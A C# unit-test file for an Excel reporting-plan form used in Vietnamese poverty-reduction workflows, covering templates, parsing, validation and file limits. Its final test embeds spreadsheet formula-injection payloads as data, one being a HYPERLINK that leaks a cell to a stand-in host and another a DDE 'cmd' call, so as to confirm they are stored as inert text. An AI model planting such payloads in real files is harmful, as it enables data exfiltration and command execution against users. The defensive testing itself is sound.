using System.Text;
using ClosedXML.Excel;
using GiamNgheo.Workflows.Plans;
using static GiamNgheo.Workflows.Tests.Plans.TestPlans;

namespace GiamNgheo.Workflows.Tests.Plans;

public sealed class PlanFormTests
{
    // Rows of the KeHoach sheet, in template order.
    private const int YearRow = 4;
    private const int UnitRow = 5;
    private const int SupervisorEmailRow = 10;
    private const int TimeRow = 12;
    private const int DaysBeforeRow = 13;
    private const int EscalateRow = 14;

    [Fact]
    public void The_template_has_the_instructions_then_the_plan_reporters_periods_and_targets()
    {
        using var workbook = new XLWorkbook(Template(2021));

        Assert.Equal(["HuongDan", "KeHoach", "DonViBaoCao", "KyBaoCao", "ChiTieu"], workbook.Worksheets.Select(s => s.Name));
        Assert.Equal("KeHoach", workbook.Worksheets.Single(s => s.TabActive).Name);
    }

    [Fact]
    public void Headers_are_Vietnamese_with_the_machine_key_in_parentheses_and_required_ones_marked()
    {
        using var workbook = new XLWorkbook(Template(2021));

        Assert.Equal(["Mã kỳ * (id)", "Tên kỳ báo cáo * (label)", "Hạn nộp * (due)"], Row(workbook.Worksheet("KyBaoCao"), 1, 3));
        Assert.Equal(["Mã đơn vị báo cáo * (id)", "Tên đơn vị * (name)", "Mã đơn vị hành chính (unitCode)", "Email (email)", "Webhook (webhook)",
            "Báo cáo từ ngày (activeFrom)", "Báo cáo đến ngày (activeUntil)"], Row(workbook.Worksheet("DonViBaoCao"), 1, 7));
        var plan = workbook.Worksheet("KeHoach");
        Assert.Equal("Mã kế hoạch * (id)", plan.Cell(2, 1).GetString());
        Assert.Equal("Năm kế hoạch * (year)", plan.Cell(YearRow, 1).GetString());
        Assert.Equal("Số ngày nhắc trước hạn (reminders.daysBefore)", plan.Cell(DaysBeforeRow, 1).GetString());
    }

    [Fact]
    public void A_blank_template_carries_the_year_and_the_default_reminders()
    {
        using var workbook = new XLWorkbook(Template(2024));
        var plan = workbook.Worksheet("KeHoach");

        Assert.Equal(2024, plan.Cell(YearRow, 2).GetValue<int>());
        Assert.Equal("08:00", plan.Cell(TimeRow, 2).GetString());
        Assert.Equal("7, 3, 1, 0", plan.Cell(DaysBeforeRow, 2).GetString());
        Assert.Equal("1, 3, 7", plan.Cell(EscalateRow, 2).GetString());
    }

    [Fact]
    public void A_blank_template_read_back_says_what_is_missing_where()
    {
        var result = PlanForm.Read(Template(2021));

        Assert.False(result.IsValid);
        At(result.Issues, "sheet KeHoach, dòng 2, cột B (id)", "Mã kế hoạch không được để trống");
        At(result.Issues, "sheet KeHoach, dòng 5, cột B (unitCode)", "không được để trống");
        At(result.Issues, "sheet KeHoach, dòng 10, cột B (supervisor.email)", "email hoặc webhook");
        At(result.Issues, "sheet DonViBaoCao", "ít nhất một đơn vị báo cáo");
        At(result.Issues, "sheet KyBaoCao", "ít nhất một kỳ báo cáo");
    }

    [Fact]
    public void Every_example_plan_written_to_the_form_and_read_back_is_the_same_plan()
    {
        foreach (var plan in ExamplePlans.All())
        {
            var result = PlanForm.Read(Form(plan));

            Assert.True(result.IsValid, $"{plan.Id}: {string.Join(" | ", result.Issues)}");
            Assert.Equal(Canonical(plan), Canonical(result.Plan));
        }
    }

    [Fact]
    public void A_plan_with_every_optional_field_no_reminders_before_and_leading_zeros_survives_the_form()
    {
        var plan = new ReportingPlan(
            "ba-dinh-2025",
            "Kế hoạch báo cáo giảm nghèo phường Ba Đình năm 2025",
            2025,
            "00004",
            new PlanContact("van-hoa-xa-hoi", "Phòng Văn hóa - Xã hội phường", null, "https://relay.badinh.example/nhac"),
            [
                new PlanReporter("to-dan-pho-1", "Tổ dân phố số 1", "tdp1@badinh.example", "00004", "http://localhost:7071/relay",
                    new DateOnly(2025, 7, 1), new DateOnly(2025, 12, 31)),
            ],
            [new PlanPeriod("nam", "Năm 2025", new DateOnly(2026, 1, 15))],
            new ReminderPolicy([], [2, 5], new TimeOnly(17, 30)),
            [
                new PlanTarget("ho-thoat-ngheo", "Giảm 12 hộ nghèo", "so-ho-ngheo-giam", 12, "ho"),
                new PlanTarget("ty-le", "Tỷ lệ giảm 0,1 điểm", "giam-ty-le", 0.1m, "diem-phan-tram"),
                new PlanTarget("ty-le-chinh-xac", "Tỷ lệ còn 1,2345%", "ty-le", 1.2345m, "%"),
                new PlanTarget("am", "Chênh lệch", "chenh-lech", -3.5m, "nguoi"),
            ],
            "Số 12/KH-UBND",
            "Ghi chú có \"dấu nháy\"");
        Assert.Empty(PlanValidator.Validate(plan));

        var result = PlanForm.Read(Form(plan));

        Assert.True(result.IsValid, string.Join(" | ", result.Issues));
        Assert.Equal(Canonical(plan), Canonical(result.Plan));
        Assert.Empty(result.Plan.Reminders.DaysBefore);
    }

    [Fact]
    public void Dates_typed_as_text_either_way_a_time_typed_as_an_Excel_time_and_a_decimal_comma_are_read()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            workbook.Worksheet("KyBaoCao").Cell(2, 3).SetValue("10/6/2021");
            workbook.Worksheet("KyBaoCao").Cell(3, 3).SetValue("2021-11-15");
            workbook.Worksheet("KeHoach").Cell(TimeRow, 2).SetValue(0.3125);
            workbook.Worksheet("ChiTieu").Cell(2, 4).SetValue("1,49");
            workbook.Worksheet("DonViBaoCao").Cell(3, 6).SetValue("01/07/2021");
        });

        var result = PlanForm.Read(form);

        Assert.True(result.IsValid, string.Join(" | ", result.Issues));
        Assert.Equal([new DateOnly(2021, 6, 10), new DateOnly(2021, 11, 15)], result.Plan.Periods.Select(p => p.Due));
        Assert.Equal(new TimeOnly(7, 30), result.Plan.Reminders.TimeOfDay);
        Assert.Equal(1.49m, result.Plan.Targets[0].Value);
        Assert.Equal(new DateOnly(2021, 7, 1), result.Plan.Reporters[1].ActiveFrom);
    }

    [Fact]
    public void A_number_as_a_double_writes_it_is_read_as_the_number_meant()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("ChiTieu").Cell(2, 4).SetValue("0.10000000000000001"));

        Assert.Equal(0.1m, Read(form).Targets[0].Value);
    }

    [Fact]
    public void The_word_khong_means_no_reminders_and_a_blank_cell_the_default()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            workbook.Worksheet("KeHoach").Cell(DaysBeforeRow, 2).SetValue("Không");
            workbook.Worksheet("KeHoach").Cell(EscalateRow, 2).Clear();
            workbook.Worksheet("KeHoach").Cell(TimeRow, 2).Clear();
        });

        var plan = Read(form);

        Assert.Empty(plan.Reminders.DaysBefore);
        Assert.Equal([1, 3, 7], plan.Reminders.EscalateDaysAfter);
        Assert.Equal(new TimeOnly(8, 0), plan.Reminders.TimeOfDay);
    }

    [Fact]
    public void Errors_in_several_sheets_are_all_reported_with_sheet_row_and_column()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            workbook.Worksheet("KeHoach").Cell(YearRow, 2).SetValue("hai nghìn");
            workbook.Worksheet("KeHoach").Cell(DaysBeforeRow, 2).SetValue("7, ba, 1");
            workbook.Worksheet("DonViBaoCao").Cell(3, 4).SetValue("liemphong");
            workbook.Worksheet("KyBaoCao").Cell(3, 3).SetValue("31/02/2021");
            workbook.Worksheet("ChiTieu").Cell(2, 5).SetValue("phần trăm");
        });

        var issues = PlanForm.Read(form).Issues;

        Assert.Equal(5, issues.Count);
        At(issues, "sheet KeHoach, dòng 4, cột B (year)", "Năm kế hoạch \"hai nghìn\" không phải một số nguyên");
        At(issues, "sheet KeHoach, dòng 13, cột B (reminders.daysBefore)", "ghi các số ngày nguyên cách nhau bằng dấu phẩy");
        At(issues, "sheet DonViBaoCao, dòng 3, cột D (email)", "Email \"liemphong\" không hợp lệ");
        At(issues, "sheet KyBaoCao, dòng 3, cột C (due)", "Hạn nộp \"31/02/2021\" không phải một ngày");
        At(issues, "sheet ChiTieu, dòng 2, cột E (unit)", "chọn một trong %, diem-phan-tram, ho, nguoi, xa");
    }

    [Fact]
    public void The_validators_findings_point_at_the_cells_they_concern()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            // Bình Lục, the district next door: Liêm Phong, a reporter, is not one of its communes.
            workbook.Worksheet("KeHoach").Cell(UnitRow, 2).SetValue("352");
            workbook.Worksheet("KeHoach").Cell(SupervisorEmailRow, 2).SetValue("ldtbxh@thanhliem");
            workbook.Worksheet("KeHoach").Cell(EscalateRow, 2).SetValue("3, 0");
            workbook.Worksheet("KyBaoCao").Cell(3, 1).SetValue("6-thang");
            workbook.Worksheet("DonViBaoCao").Cell(2, 4).Clear();
        });

        var issues = PlanForm.Read(form).Issues;

        Assert.Equal(5, issues.Count);
        At(issues, "sheet DonViBaoCao, dòng 3, cột C (unitCode)", "Xã Liêm Phong (mã 13450) không thuộc Huyện Bình Lục (mã 352)");
        At(issues, "sheet KeHoach, dòng 10, cột B (supervisor.email)", "Email \"ldtbxh@thanhliem\" không hợp lệ");
        At(issues, "sheet KeHoach, dòng 14, cột B (reminders.escalateDaysAfter)", "Số ngày nhắc sau hạn 0 không hợp lệ");
        At(issues, "sheet KyBaoCao, dòng 3, cột A (id)", "Mã kỳ \"6-thang\" bị trùng");
        At(issues, "sheet DonViBaoCao, dòng 2, cột D (email)", "email hoặc webhook");
    }

    [Fact]
    public void Blank_rows_between_items_are_skipped_and_rows_keep_the_numbers_Excel_shows()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            var periods = workbook.Worksheet("KyBaoCao");
            periods.Cell(7, 1).SetValue("quy-3");
            periods.Cell(7, 2).SetValue("Quý III");
            periods.Cell(7, 3).SetValue("2022-09-20");
        });

        var issues = PlanForm.Read(form).Issues;

        Single(issues, "sheet KyBaoCao, dòng 7, cột C (due)", "Hạn nộp 20/09/2022 nằm ngoài năm kế hoạch");
    }

    [Fact]
    public void Columns_are_found_by_their_key_whatever_their_order_and_extra_columns_are_ignored()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            var periods = workbook.Worksheet("KyBaoCao");
            periods.Clear();
            string[][] rows =
            [
                ["Ghi chú", "Hạn (due)", "label", "Mã (id)"],
                ["theo văn bản", "2021-06-10", "06 tháng", "6-thang"],
                ["", "2021-11-15", "Năm", "nam"],
            ];
            for (var r = 0; r < rows.Length; r++)
            {
                for (var c = 0; c < rows[r].Length; c++)
                    periods.Cell(r + 1, c + 1).SetValue(rows[r][c]);
            }
        });

        Assert.Equal(Canonical(TestPlans.ThanhLiem()), Canonical(Read(form)));
    }

    [Fact]
    public void A_missing_required_sheet_is_one_issue_and_a_missing_target_sheet_means_no_targets()
    {
        var withoutPeriods = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("KyBaoCao").Delete());
        var withoutTargets = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("ChiTieu").Delete());
        var withoutPlan = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("KeHoach").Delete());

        Single(PlanForm.Read(withoutPeriods).Issues, "sheet KyBaoCao", "Thiếu sheet KyBaoCao");
        Assert.Empty(Read(withoutTargets).Targets);
        Single(PlanForm.Read(withoutPlan).Issues, "sheet KeHoach", "Thiếu sheet KeHoach");
    }

    [Fact]
    public void A_missing_required_column_is_one_issue_at_the_header()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("KyBaoCao").Column(3).Delete());

        Single(PlanForm.Read(form).Issues, "sheet KyBaoCao, dòng 1", "Thiếu cột bắt buộc \"Hạn nộp * (due)\"");
    }

    [Fact]
    public void A_column_given_twice_is_reported_and_the_first_is_used()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook => workbook.Worksheet("KyBaoCao").Cell(1, 5).SetValue("Hạn khác (due)"));

        Single(PlanForm.Read(form).Issues, "sheet KyBaoCao, dòng 1, cột E (due)", "Cột due xuất hiện hai lần (đã có ở cột C)");
    }

    [Fact]
    public void A_plan_field_given_twice_is_reported()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            workbook.Worksheet("KeHoach").Cell(20, 1).SetValue("Năm (year)");
            workbook.Worksheet("KeHoach").Cell(20, 2).SetValue(2022);
        });

        Single(PlanForm.Read(form).Issues, "sheet KeHoach, dòng 20, cột A (year)", "Mục year xuất hiện hai lần (đã có ở dòng 4)");
    }

    [Fact]
    public void A_form_with_25_periods_is_refused_at_the_sheet()
    {
        var form = Edit(Form(TestPlans.ThanhLiem()), workbook =>
        {
            var periods = workbook.Worksheet("KyBaoCao");
            for (var i = 0; i < 25; i++)
            {
                periods.Cell(i + 2, 1).SetValue($"ky-{i}");
                periods.Cell(i + 2, 2).SetValue($"Kỳ {i}");
                periods.Cell(i + 2, 3).SetValue(new DateTime(2021, 1, 1).AddDays(i * 7));
            }
        });

        Single(PlanForm.Read(form).Issues, "sheet KyBaoCao", "Sheet có 25 kỳ báo cáo; tối đa 24");
    }

    [Fact]
    public void A_file_that_is_not_a_workbook_is_one_issue_about_the_file()
    {
        Single(PlanForm.Read(new MemoryStream(PlanDocument.ToUtf8Bytes(TestPlans.ThanhLiem()))).Issues, "tệp", "không phải bảng tính Excel (.xlsx)");
        Single(PlanForm.Read(new MemoryStream([0x50, 0x4B, 0x03, 0x04, 1, 2, 3])).Issues, "tệp", "Tệp");
        Single(PlanForm.Read(new MemoryStream([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1])).Issues, "tệp", "mật khẩu hoặc là định dạng .xls cũ");
    }

    [Fact]
    public void A_form_over_five_mebibytes_is_refused_unread()
    {
        var huge = new byte[PlanForm.MaxFileBytes + 1];

        Single(PlanForm.Read(new MemoryStream(huge)).Issues, "tệp", "tối đa 5 MiB");
        Single(PlanForm.Read(new OneWayStream(huge)).Issues, "tệp", "tối đa 5 MiB");
    }

    [Fact]
    public async Task An_upload_that_cannot_seek_is_buffered_and_read()
    {
        var bytes = Form(TestPlans.ThanhLiem()).ToArray();

        var result = await PlanForm.ReadAsync(new OneWayStream(bytes));

        Assert.True(result.IsValid, string.Join(" | ", result.Issues));
        Assert.True(PlanForm.Read(new OneWayStream(bytes)).IsValid);
    }

    [Fact]
    public void Text_that_looks_like_a_formula_is_written_as_text_and_read_back_unchanged()
    {
        const string title = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm vào đây\")";
        var original = ThanhLiem();
        var plan = original with
        {
            Title = title,
            Note = "@SUM(A1:A9)",
            Reporters = [original.Reporters[0] with { Name = "+cmd|' /C calc'!A0" }, original.Reporters[1]],
        };
        var form = Form(plan);

        using (var zip = new System.IO.Compression.ZipArchive(new MemoryStream(form.ToArray())))
        {
            foreach (var part in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
            {
                using var reader = new StreamReader(part.Open());
                var xml = reader.ReadToEnd();
                Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
                Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
            }
        }

        using (var workbook = new XLWorkbook(new MemoryStream(form.ToArray())))
        {
            var cell = workbook.Worksheet("KeHoach").CellsUsed().Single(c => c.GetString() == title);
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
        }

        Assert.Equal(Canonical(plan), Canonical(Read(form)));
    }

    private static MemoryStream Template(int year)
    {
        var stream = new MemoryStream();
        PlanForm.WriteTemplate(stream, year);
        stream.Position = 0;
        return stream;
    }

    private static MemoryStream Form(ReportingPlan plan)
    {
        var stream = new MemoryStream();
        PlanForm.Write(stream, plan);
        stream.Position = 0;
        return stream;
    }

    /// <summary>The form as an officer changed it in a spreadsheet program.</summary>
    private static MemoryStream Edit(MemoryStream form, Action<XLWorkbook> edit)
    {
        using var workbook = new XLWorkbook(form);
        edit(workbook);
        var edited = new MemoryStream();
        workbook.SaveAs(edited);
        edited.Position = 0;
        return edited;
    }

    private static ReportingPlan Read(Stream form)
    {
        var result = PlanForm.Read(form);
        Assert.True(result.IsValid, string.Join(" | ", result.Issues));
        return result.Plan;
    }

    private static string[] Row(IXLWorksheet sheet, int row, int columns) =>
        [.. Enumerable.Range(1, columns).Select(c => sheet.Cell(row, c).GetString())];

    /// <summary>A stream that reads forward only, like an upload.</summary>
    private sealed class OneWayStream(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;

        public override long Length => throw new NotSupportedException();
    }
}
